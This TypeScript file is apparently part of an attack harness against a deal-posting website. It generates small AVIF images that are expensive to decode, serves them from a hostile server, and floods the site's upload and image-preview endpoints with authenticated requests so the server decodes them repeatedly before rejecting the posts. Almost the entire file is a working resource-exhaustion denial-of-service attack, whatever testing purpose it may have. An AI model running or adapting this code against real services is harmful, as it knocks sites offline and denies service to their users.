import type { RequestListener } from 'node:http';
import sharp from 'sharp';
import { type Attack, storm } from './storm.ts';
import { type HostileFigures, type HostileSite, watchAttack } from './watch-site.ts';

/** Makes two pictures of about a kilobyte: one of 24 megapixels, the limit, and one of 50, which is too large. */
export async function makeHostilePictures(): Promise<Buffer[]> {
	const sides = [4_898, 7_070];
	return Promise.all(
		sides.map((side) =>
			sharp({ create: { width: side, height: side, channels: 3, background: '#345' } })
				.avif({ quality: 40, effort: 0 })
				.toBuffer(),
		),
	);
}

/** A shop that returns one of the pictures for every address. */
export function hostileShop(pictures: Buffer[]): RequestListener {
	let requests = 0;
	return (request, response) => {
		if (request.url === '/robots.txt') return response.end();
		requests += 1;
		return response.setHeader('content-type', 'image/avif').end(pictures[requests % pictures.length]);
	};
}

/** Members upload and fetch pictures that are small to send and expensive to decode, as fast as the limits allow. */
export function attackByPictures(site: HostileSite & { shopUrl: string }, pictures: Buffer[]): Promise<HostileFigures> {
	const uploads = site.tokens
		.flatMap((token) => [token, token])
		.map(
			(token): Attack =>
				(signal) =>
					upload(site.url, { token, signal }, pictures),
		);
	const previews = Array.from(
		{ length: 40 },
		(_, index): Attack =>
			(signal) => {
				const token = site.tokens[index % 4] ?? '';
				return preview(site.url, { token, signal }, `${site.shopUrl}/${crypto.randomUUID()}.avif`);
			},
	);
	return watchAttack(site, () => storm([...uploads, ...previews]));
}

interface Sender {
	token: string;
	signal: AbortSignal;
}

/** Sends nine pictures and a file that is not one. The post is rejected only after all nine have been decoded. */
async function upload(url: string, { token, signal }: Sender, [largest = Buffer.alloc(0)]: Buffer[]): Promise<void> {
	const form = new FormData();
	const fields = {
		isOnline: '0',
		dealTitle: 'Kettle for $49',
		dealPrice: '49',
		dealDescription: '<p>Boils fast, and stays quiet.</p>',
		'dealCategories[]': '1',
	};
	for (const [name, value] of Object.entries(fields)) form.append(name, value);
	for (let index = 0; index < 9; index += 1) form.append('image[]', new Blob([new Uint8Array(largest)]), 'a.avif');
	form.append('image[]', new Blob(['none']), 'a.avif');
	await (
		await fetch(`${url}/api/postdeal`, { method: 'POST', signal, headers: { accesstoken: token }, body: form })
	).text();
}

async function preview(url: string, { token, signal }: Sender, address: string): Promise<void> {
	const response = await fetch(`${url}/api/previewImage`, {
		method: 'POST',
		signal,
		headers: { accesstoken: token, 'content-type': 'application/json' },
		body: JSON.stringify({ url: address }),
	});
	await response.text();
}
